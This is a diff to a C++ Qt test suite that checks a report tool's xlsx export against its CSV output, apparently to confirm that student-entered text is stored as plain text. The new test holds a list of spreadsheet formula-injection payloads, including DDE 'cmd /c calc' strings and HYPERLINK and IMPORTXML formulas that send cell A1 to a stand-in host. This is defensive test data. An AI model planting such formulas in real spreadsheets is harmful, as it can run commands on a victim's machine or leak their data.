@@ -1,13 +1,18 @@
 // SPDX-License-Identifier: MIT
 #include "bank/assignmentcontent.h"
 #include "generatedclass.h"
+#include "records/codepage.h"
 #include "records/recordcomposition.h"
 #include "report/reportcommand.h"
+#include "report/workbookwriter.h"
 
 #include <QDateTime>
 #include <QDir>
 #include <QFileInfo>
+#include <QJsonArray>
+#include <QJsonDocument>
 #include <QProcess>
+#include <QStandardPaths>
 #include <QTemporaryDir>
 #include <QTest>
 
@@ -285,8 +290,25 @@ private slots:
             arguments << QStringLiteral("--due")
                       << QStringLiteral("%1=%2").arg(it.key()).arg(
                              it.value().toString(Qt::ISODate));
+        // The statistics go to the workbook's second sheet as well, read back by openpyxl.
+        const QString xlsxPath = output(QStringLiteral("class.xlsx"));
+        const QString python = QFileInfo::exists(QStringLiteral("/usr/bin/python3"))
+                                   ? QStringLiteral("/usr/bin/python3")
+                                   : QStandardPaths::findExecutable(QStringLiteral("python3"));
+        const bool workbook = report::WorkbookWriter::available() && !python.isEmpty();
+        if (workbook)
+            arguments << QStringLiteral("--xlsx") << xlsxPath;
         const Outcome outcome = runReport(arguments << dir.path());
         QVERIFY2(outcome.status == 0, qPrintable(outcome.err));
+        QJsonArray sheet;
+        if (workbook) {
+            QProcess reader;
+            reader.start(python,
+                         {QFINDTESTDATA("workbookcells.py"), xlsxPath, QStringLiteral("1")});
+            QVERIFY(reader.waitForFinished(120000));
+            QVERIFY2(reader.exitCode() == 0, reader.readAllStandardError());
+            sheet = QJsonDocument::fromJson(reader.readAllStandardOutput()).array();
+        }
 
         const QStringList lines = outcome.out.split(u'\n');
         const QRegularExpression gap(QStringLiteral("  +"));
@@ -379,6 +401,24 @@ private slots:
             QCOMPARE(cells.at(5), sum[4] > 0
                                       ? QStringLiteral("%1 %").arg(qRound(100.0 * sum[5] / sum[4]))
                                       : QStringLiteral("-"));
+            if (!workbook)
+                continue;
+            const auto text = [&](int column, int decimals) {
+                const QString value = sheet[1 + std::distance(sums.constBegin(), it)]
+                                          .toArray()[column]
+                                          .toArray()[1]
+                                          .toString();
+                return value.isEmpty() ? QStringLiteral("-")
+                                       : QString::number(value.toDouble(), 'f', decimals);
+            };
+            QCOMPARE(text(0, 0), QString::number(it.key().first));
+            QCOMPARE(text(1, 0), QString::number(it.key().second));
+            QCOMPARE(text(3, 0), QString::number(runs[it.key().first]));
+            QCOMPARE(text(4, 0), QString::number(sum[0]));
+            QCOMPARE(text(5, 2), mean(sum[1], sum[2]));
+            QCOMPARE(text(6, 2), mean(sum[3], sum[4]));
+            QCOMPARE(text(7, 4), sum[4] > 0 ? QString::number(double(sum[5]) / sum[4], 'f', 4)
+                                            : QStringLiteral("-"));
         }
     }
 
@@ -561,6 +601,90 @@ private slots:
         QCOMPARE(rows[1].at(8), payload);
         QCOMPARE(rows[1].at(10), payload);
 #endif
+    }
+
+    // The workbook, read back by an independent reader (openpyxl from Debian), holds every field
+    // of the CSV exactly, as text where a student typed it: formula injections, 001 and Zoë
+    // included, and none of its cells is a formula.
+    void workbookMatchesTheCsv()
+    {
+#ifdef Q_OS_WIN
+        QSKIP("openpyxl runs on the Linux side: the Linux build's test reads the same workbook");
+#endif
+        const QString python = QFileInfo::exists(QStringLiteral("/usr/bin/python3"))
+                                   ? QStringLiteral("/usr/bin/python3")
+                                   : QStandardPaths::findExecutable(QStringLiteral("python3"));
+        if (!report::WorkbookWriter::available() || python.isEmpty())
+            QSKIP("no libxlsxwriter in this build, or no python3 to read the workbook back");
+        const QStringList payloads{
+            QStringLiteral("=1+1"),
+            QStringLiteral("+1+1"),
+            QStringLiteral("-1+1"),
+            QStringLiteral("@SUM(1+1)"),
+            QStringLiteral("\t=1+1"),
+            QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&A1;\"click\")"),
+            QStringLiteral("=cmd|' /c calc'!a0"),
+            QStringLiteral("=2+5+cmd|' /C calc'!A0"),
+            QStringLiteral("-2+3+cmd|' /C calc'!A0"),
+            QStringLiteral("@SUM(1+9)*cmd|' /C calc'!A0"),
+            QStringLiteral("=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
+            QStringLiteral("=IMPORTXML(CONCAT(\"http://example.invalid/?v=\",A1),\"//a\")"),
+            QStringLiteral("001"),
+            QStringLiteral("Zoë"),
+            QStringLiteral("1.5e3")};
+        QTemporaryDir dir;
+        QVERIFY(dir.isValid());
+        const QString entry = bank::assignmentContent().filter(QStringLiteral("`q001.")).first();
+        for (const QString &name : {QStringLiteral("=1+1"), QStringLiteral("@SUM(1+1)"),
+                                    QStringLiteral("001"), QStringLiteral("Zoë")}) {
+            QString text = records::openingBlock(
+                QString(22, QChar(0xFF)), records::assignmentLine(QStringLiteral("001")),
+                QStringLiteral("001.  Areas"), QStringLiteral("bexlorin"),
+                QStringLiteral("03-03-2026"));
+            for (const QString &payload : payloads) {
+                text += records::responseRecord(records::RecordFile::Send,
+                                                QStringLiteral("09:05:30"), 0, {entry, payload},
+                                                records::Rating::Confidence, payload);
+            }
+            QFile file(dir.filePath(QStringLiteral("send_0303") + name + QStringLiteral(".txt")));
+            QVERIFY(file.open(QIODevice::WriteOnly));
+            file.write(records::codepage::encode(text).value());
+        }
+        const QString csvPath = output(QStringLiteral("cells.csv"));
+        const QString xlsxPath = output(QStringLiteral("cells.xlsx"));
+        const Outcome outcome =
+            runReport({QStringLiteral("--csv"), csvPath, QStringLiteral("--xlsx"), xlsxPath,
+                       dir.path(), records_.path()});
+        QVERIFY2(outcome.status == 1 || outcome.status == 0, qPrintable(outcome.err));
+        QFile csvFile(csvPath);
+        QVERIFY(csvFile.open(QIODevice::ReadOnly));
+        QString error;
+        const QList<QStringList> csv = readCsv(csvFile.readAll(), &error);
+        QVERIFY2(error.isEmpty(), qPrintable(error));
+
+        QProcess reader;
+        reader.start(python, {QFINDTESTDATA("workbookcells.py"), xlsxPath});
+        QVERIFY(reader.waitForFinished(120000));
+        QVERIFY2(reader.exitCode() == 0, reader.readAllStandardError());
+        const QJsonArray workbook = QJsonDocument::fromJson(reader.readAllStandardOutput()).array();
+        QCOMPARE(workbook.size(), csv.size());
+        const QList<int> numbers{4, 5, 9}; // code number, question, rating
+        QSet<QString> seen;
+        for (qsizetype r = 0; r < csv.size(); ++r) {
+            const QJsonArray row = workbook[r].toArray();
+            QCOMPARE(row.size(), csv[r].size());
+            for (qsizetype c = 0; c < row.size(); ++c) {
+                const QString type = row[c].toArray()[0].toString();
+                const QString text = row[c].toArray()[1].toString();
+                QCOMPARE(text, csv[r][c]);
+                const bool number = r > 0 && numbers.contains(int(c));
+                QCOMPARE(type,
+                         text.isEmpty() || number ? QStringLiteral("n") : QStringLiteral("s"));
+                seen.insert(text);
+            }
+        }
+        for (const QString &payload : payloads)
+            QVERIFY2(seen.contains(payload), qPrintable(payload));
     }
 
     // A file with problems: exit status 1, and the outputs are still written.
